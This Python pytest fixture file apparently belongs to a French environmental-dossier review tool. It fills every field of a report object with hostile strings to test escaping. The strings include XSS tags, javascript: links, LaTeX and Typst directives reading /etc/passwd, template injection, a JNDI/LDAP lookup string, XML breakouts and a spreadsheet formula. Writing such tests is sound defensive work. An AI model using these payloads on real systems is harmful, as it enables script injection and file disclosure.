"""A note whose every text comes from a hostile dossier, and one that is plain."""

import uuid
from collections.abc import Sequence
from datetime import date

import pytest

from schemas.notes import (
    Citation,
    CompletenessItem,
    Contradiction,
    Deadline,
    EnjeuSynthesis,
    Generator,
    KeyFigure,
    MesureErc,
    Note,
    NoteSection,
    Request,
    Statement,
    Unread,
)

LEGIFRANCE = "https://www.legifrance.gouv.fr/codes/article_lc/LEGIARTI000042654976"
HOSTILE: Sequence[str] = (
    '<script>alert("a")</script><img src=x onerror=alert(1)>',
    "**gras** _italique_ ~~barré~~ `code` ``` bloc",
    "[lien](javascript:alert(1)) ![image](https://exemple.invalid/suivi.png) <https://exemple.invalid>",
    '#import "/etc/passwd": * #read("/etc/passwd") #eval("1") $x^2$ @reference <etiquette>',
    "\\input{/etc/passwd} \\begin{evil} {{ config }} {% raw %} ${jndi:ldap://exemple.invalid}",
    "a | b | c --- | --- ||| ]]> &amp; &lt; </w:t></w:p> </text:p> <!-- <?xml",
    "1. liste 2) liste - puce + puce * puce : définition ^[note] [^1] ~~~",
    "=HYPERLINK(www.exemple.invalid) mailto:x@exemple.invalid {=html} {.classe} ::: div",
)


def _id(number: int) -> uuid.UUID:
    return uuid.UUID(int=number)


def _citation(text: str, page: int = 12) -> Citation:
    return Citation(document_id=_id(1), document=text, page=page, quote=text, bbox=(1, 2, 3, 4))


def note_saying(texts: Sequence[str]) -> Note:
    """Return a note in which each text stands in every place a dossier or a model can write to."""
    statements = [
        Statement(
            statement_id=_id(100 + number),
            text=text,
            origin="extract",
            support="supported",
            citations=(_citation(text),),
            review="rejected" if number == 1 else "pending",
        )
        for number, text in enumerate(texts)
    ]
    return Note(
        dossier_id=_id(2),
        note_id=_id(3),
        version=2,
        status="in_review",
        title=texts[0],
        generator=Generator(model="lisiere/extractive 1", prompts={}),
        mention="Note établie avec l’aide d’un traitement algorithmique (CRPA, article L311-3-1).",
        sections=(
            NoteSection(key="identite", title="Identité", statements=tuple(statements), not_found=tuple(texts)),
            NoteSection(key="enjeu_eau", title=texts[-1], statements=tuple(statements[2:])),
        ),
        completeness=tuple(
            CompletenessItem(
                piece=text, article="R122-5 II 7°", status="partial", citations=(_citation(text),), url=LEGIFRANCE
            )
            for text in texts
        ),
        key_figures=tuple(
            KeyFigure(label=text, value=1234.5, unit=text, citations=(_citation(text),)) for text in texts
        ),
        contradictions=tuple(
            Contradiction(kind=text, explanation=text, citations=(_citation(text), _citation(text, 13)))
            for text in texts
        ),
        enjeux=(
            EnjeuSynthesis(
                enjeu="eau",
                weight=0.25,
                measures=tuple(MesureErc(type="R", text=text, citations=(_citation(text),)) for text in texts),
                citations=(_citation(texts[0]),),
            ),
        ),
        requests=tuple(Request(text=text, legal_basis=text, citations=(_citation(text),)) for text in texts),
        deadlines=(
            Deadline(label=texts[0], due_on=date(2027, 2, 1), article="L181-10-1", url="javascript:alert(1)"),
            Deadline(label="Avis", due_on=date(2027, 1, 16), article="D181-17-1", url=LEGIFRANCE),
        ),
        unread=tuple(Unread(document_id=_id(4), document=text, pages=(3, 4, 5, 9), reason=text) for text in texts),
        warnings=tuple(texts),
    )


@pytest.fixture
def hostile_texts() -> Sequence[str]:
    """Give texts that some form might take for markup."""
    return HOSTILE


@pytest.fixture
def hostile_note() -> Note:
    """Give a note made of them."""
    return note_saying(HOSTILE)


@pytest.fixture
def plain_note() -> Note:
    """Give a note with ordinary sentences."""
    return note_saying(["Le site compte six éoliennes.", "L’emprise est de 4,2 ha.", "La haie est conservée."])
